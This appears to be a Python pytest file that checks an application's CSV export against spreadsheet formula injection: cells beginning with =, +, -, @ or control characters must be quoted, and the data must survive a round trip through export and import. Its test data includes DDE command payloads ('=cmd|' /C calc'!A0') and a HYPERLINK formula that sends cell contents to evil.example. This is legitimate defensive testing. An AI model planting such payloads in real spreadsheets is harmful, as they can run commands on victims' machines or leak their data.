"""CSV injection (OWASP): text cells that a spreadsheet would run as formulas are written with a
leading ``'``; numbers stay numbers; export → import gives back exactly the same model."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ecodesk.io import export_file, import_file
from ecodesk.io.textsafe import neutralise_cell, restore_cell
from ecodesk.model import Entity, Flow, Project, Scenario

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _attack_project() -> Project:
    project = Project("=HYPERLINK(\"http://x\")", notes="@evil")
    s = Scenario("+Base")
    for i, text in enumerate(ATTACKS):
        s.add(Entity(f"e{i}", text, "platform", industry=text, notes=text, x=-5, y=3))
    s.add(Entity("'=q", "''=already quoted", "user", notes="'plain quote", x=-1.5, y=0))
    s.add(Flow("f1", "e0", "e1", "goods", volume=3, unit_value=2, notes="-10"))
    project.add_scenario(s)
    return project


@pytest.mark.parametrize("text", ATTACKS)
def test_cell_rule(text):
    out = neutralise_cell(text)
    assert out == "'" + text and restore_cell(out) == text


@pytest.mark.parametrize("text", ["-5", "+3", "-1.5e3", "0.25", "abc", "", "'", "x=1", "'abc"])
def test_numbers_and_plain_text_untouched(text):
    assert neutralise_cell(text) == text and restore_cell(text) == text


@pytest.mark.parametrize("text", ["'=1", "''@x", "'-", "'\t1"])
def test_already_quoted_text_round_trips(text):
    assert neutralise_cell(text) == "'" + text and restore_cell(neutralise_cell(text)) == text


def test_csv_export_writes_no_formula_and_round_trips(tmp_path):
    project = _attack_project()
    folder = tmp_path / "out"
    export_file(project, folder, "csv")
    for table in folder.iterdir():
        for row in _rows(table)[1:]:
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _is_number(cell)):
                    pytest.fail(f"{table.name}: formula cell written raw: {cell!r}")
    entities = _rows(folder / "entities.csv")
    header = entities[0]
    e0 = dict(zip(header, entities[1], strict=True))
    assert e0["name"] == "'=cmd|' /C calc'!A0" and e0["scenario"] == "'+Base"
    assert e0["x"] == "-5" and e0["y"] == "3"  # numbers stay numbers
    assert dict(zip(_rows(folder / "project.csv")[0], _rows(folder / "project.csv")[1], strict=True))["name"] \
        == "'=HYPERLINK(\"http://x\")"
    back = import_file(folder)
    assert back.content_equals(project)
    assert back.scenarios[0].entities["'=q"].name == "''=already quoted"
    export_file(project, tmp_path / "p.zip")
    assert import_file(tmp_path / "p.zip").content_equals(project)


def test_hand_written_quoted_cell_imports_as_text(tmp_path):
    folder = tmp_path / "hand"
    folder.mkdir()
    (folder / "entities.csv").write_text("id,name\r\na,'=1+1\r\nb,-3\r\n", encoding="utf-8")
    s = import_file(folder).scenarios[0]
    assert s.entities["a"].name == "=1+1" and s.entities["b"].name == "-3"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_panel_save_table_as_csv_writes_no_formula(tmp_path):
    from ecodesk.ui.panels.tables import Column, ResultTableModel

    model = ResultTableModel([Column("name", "Partner"), Column("value", "Value", kind="money")])
    model.set_rows([{"name": "=cmd|' /C calc'!A0", "value": -5}, {"name": "@x", "value": 2.5},
                    {"name": "-1", "value": -0.5}])
    path = tmp_path / "t.csv"
    model.save_csv(path)
    rows = _rows(path)
    assert rows == [["Partner", "Value"], ["'=cmd|' /C calc'!A0", "-5"], ["'@x", "2.5"], ["-1", "-0.5"]]
    assert model.table_text().splitlines()[1] == "=cmd|' /C calc'!A0\t-5"  # the clipboard keeps the text as it is
